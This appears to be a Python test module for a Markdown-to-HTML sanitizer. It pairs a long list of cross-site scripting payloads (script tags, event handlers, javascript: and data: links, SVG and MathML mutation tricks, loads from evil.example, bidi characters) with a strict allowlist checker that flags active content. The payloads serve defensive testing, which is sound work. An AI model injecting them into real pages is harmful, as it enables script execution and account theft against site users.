"""Texts that become active content where a renderer is careless, and a judge of HTML that knows no mercy."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

PAYLOADS = (
    # scripts
    "<script>alert(1)</script>",
    "<ScRiPt SrC=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "</p><script>alert(1)</script><p>",
    "<script\n>alert(1)</script\t>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=\"https://ok.example\" onclick=alert(1)>x</a>",
    "<select onchange=alert(1)><option>1</select>",
    "<x onpointerrawupdate=alert(1)>x</x>",
    # links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](/logout)",
    "[x](\\\\evil.example)",
    "[x](blob:https://ok.example/1)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://ok.example \"onmouseover=alert(1)\")",
    "[x](https://ok.example \"\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://ok.example/\"onmouseover=\"alert(1))",
    "[a](<javascript:alert(1)>)",
    # images
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](x \"onerror=alert(1)\")",
    "![\"onerror=\"alert(1)](x)",
    "[![x](https://evil.example/p.gif)](https://ok.example)",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><maction actiontype=statusline#http://x xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    # mutation
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><script>alert(1)</script></template>",
    # styles, frames, forms, redirects
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"position:fixed;inset:0\" class=\"modal\">x</p>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    # attributes that libraries act on
    "<div hx-get=\"/logout\" hx-trigger=\"load\">x</div>",
    "<div data-hx-post=\"/api/orgs/ours/tickets\" data-hx-trigger=\"revealed\">x</div>",
    "<a href=\"https://ok.example\" hx-on:click=\"alert(1)\" x-on:click=\"alert(1)\" @click=\"alert(1)\">x</a>",
    # Markdown tricks
    "```<script>alert(1)</script>\ncode\n```",
    "```js\" onload=\"alert(1)\ncode\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|:-:|\n| <b>1</b> | 2 |",
    "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>\n1) [x](javascript:1)",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<https://ok.example/?a=\"><script>alert(1)</script>>",
    "<a@\"onmouseover=alert(1)>",
    # direction and invisible characters
    "\u202ehttps://live.example\u202c [https://bank.example](https://evil.example/\u202e)",
    "\u2066[x](javascript:alert(1))\u2069 \u2067abc",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
)  # fmt: skip

TAGS = frozenset({
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s",
    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
})  # fmt: skip
REL = "nofollow noopener noreferrer"
#: What a code block may say of its language: nothing that ends an attribute, or names a class of the pages.
LANGUAGE = re.compile(r"language-[A-Za-z0-9_+#.-]{1,40}")
TURNING = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


class _Judge(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        self.faults += [f"{tag} {name}={value}" for name, value in attrs if not _harmless(tag, name, value or "")]
        if tag == "a" and dict(attrs).get("rel") != REL:
            self.faults.append("link without rel")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"<![{data}")


def _harmless(tag: str, name: str, value: str) -> bool:
    if (tag, name) == ("a", "href"):
        return urlsplit(value).scheme in {"http", "https", "mailto"}
    if (tag, name) == ("code", "class"):
        return LANGUAGE.fullmatch(value) is not None
    return (tag, name, value) == ("a", "rel", REL) or ((tag, name) == ("ol", "start") and value.isdigit())


def active_content(html: str) -> list[str]:
    """Everything a page must not get from a stranger; empty when the HTML is harmless."""
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return [*judge.faults, *(f"U+{ord(char):04X}" for char in sorted(TURNING & set(html)))]
